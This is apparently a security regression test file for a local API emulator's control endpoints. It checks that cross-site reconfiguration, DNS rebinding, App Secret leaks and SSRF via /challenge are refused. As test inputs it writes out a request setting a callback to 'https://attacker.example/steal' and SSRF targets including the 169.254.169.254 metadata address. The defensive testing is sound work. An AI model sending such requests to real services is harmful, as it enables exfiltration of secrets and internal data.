/**
 * Security review finding 15.8, as attacks on the emulator's control API (npm start runs it next to the user's
 * browser): a web page of another site must neither reconfigure it nor read it, JSON sent as text/plain (a "simple"
 * cross-site request) is refused, no answer carries the App Secret, and /challenge cannot be used to make the
 * emulator POST to (and read back) an arbitrary URL. Each test failed on the code before the fix.
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';

import { EMULATOR_DEFAULTS, type RunningEmulator, startEmulator } from '../emulator';
import { rawRequest } from '../emulator/rawHttp';

let emu: RunningEmulator;
beforeAll(async () => {
	emu = await startEmulator({ port: 0 });
});
afterAll(() => emu.close());

const app = async () =>
	(await rawRequest(`${emu.url}/__emulator/app`, { headers: { host: new URL(emu.url).host } }))
		.body;

test('a page of another site cannot reconfigure the emulator (cross-site form / no-cors fetch)', async () => {
	const before = await app();
	// What a page's fetch(url, {method:'PUT', mode:'no-cors', body}) sends: its Origin, text/plain.
	const attack = await rawRequest(`${emu.url}/__emulator/app`, {
		method: 'PUT',
		headers: {
			host: new URL(emu.url).host,
			origin: 'https://attacker.example',
			'content-type': 'text/plain;charset=UTF-8',
		},
		body: JSON.stringify({ eventMode: 'callback', callbackUrl: 'https://attacker.example/steal' }),
	});
	expect(attack.status).toBe(403);
	// Even with an Origin a proxy stripped, the text/plain body is refused.
	const stripped = await rawRequest(`${emu.url}/__emulator/app`, {
		method: 'PUT',
		headers: { host: new URL(emu.url).host, 'content-type': 'text/plain' },
		body: JSON.stringify({ eventMode: 'callback', callbackUrl: 'https://attacker.example/steal' }),
	});
	expect(stripped.status).toBe(415);
	expect(await app()).toEqual(before);
});

test("DNS rebinding: a request naming the attacker's host is refused, reads included", async () => {
	for (const p of ['/app', '/users', '/requests', '/events', '/deliveries']) {
		const r = await rawRequest(`${emu.url}/__emulator${p}`, {
			headers: { host: `rebind.attacker.example:${emu.port}` },
		});
		expect({ p, status: r.status }).toEqual({ p, status: 403 });
	}
});

test('no control answer contains the App Secret', async () => {
	const host = new URL(emu.url).host;
	// A token request puts the secret into the request log, which /requests shows.
	const token = await rawRequest(`${emu.url}/open-apis/auth/v3/tenant_access_token/internal`, {
		method: 'POST',
		headers: { 'content-type': 'application/json' },
		body: JSON.stringify({
			app_id: EMULATOR_DEFAULTS.appId,
			app_secret: EMULATOR_DEFAULTS.appSecret,
		}),
	});
	expect(token.body.code).toBe(0);
	const texts = await Promise.all(
		['/app', '/users', '/chats', '/requests', '/ws'].map(
			async (p) => (await rawRequest(`${emu.url}/__emulator${p}`, { headers: { host } })).text,
		),
	);
	const put = await rawRequest(`${emu.url}/__emulator/app`, {
		method: 'PUT',
		headers: { host, 'content-type': 'application/json' },
		body: JSON.stringify({ botEnabled: true }),
	});
	for (const text of [...texts, put.text]) expect(text).not.toContain(EMULATOR_DEFAULTS.appSecret);
});

test("/challenge does not POST to a URL outside this machine's loopback, even one that answers", async () => {
	// A server on all interfaces, reached by a non-loopback address of this machine: it would answer.
	let hits = 0;
	const server = createServer((req, res) => {
		hits++;
		res.writeHead(200, { 'content-type': 'application/json' });
		res.end('{"secret":"internal service data"}');
	});
	await new Promise<void>((r) => server.listen(0, '0.0.0.0', r));
	const { port } = server.address() as AddressInfo;
	const lan = Object.values(os.networkInterfaces())
		.flat()
		.find((i) => i && i.family === 'IPv4' && !i.internal)?.address;
	const targets = [`http://169.254.169.254/latest/meta-data/`, 'http://example.com/'];
	if (lan) targets.push(`http://${lan}:${port}/internal`);
	try {
		for (const url of targets) {
			const r = await rawRequest(`${emu.url}/__emulator/challenge`, {
				method: 'POST',
				headers: { host: new URL(emu.url).host, 'content-type': 'application/json' },
				body: JSON.stringify({ url }),
			});
			expect({ url, status: r.status }).toEqual({ url, status: 400 });
			expect(r.text).not.toContain('internal service data');
		}
		expect(hits).toBe(0);
	} finally {
		await new Promise<void>((r) => server.close(() => r()));
	}
});
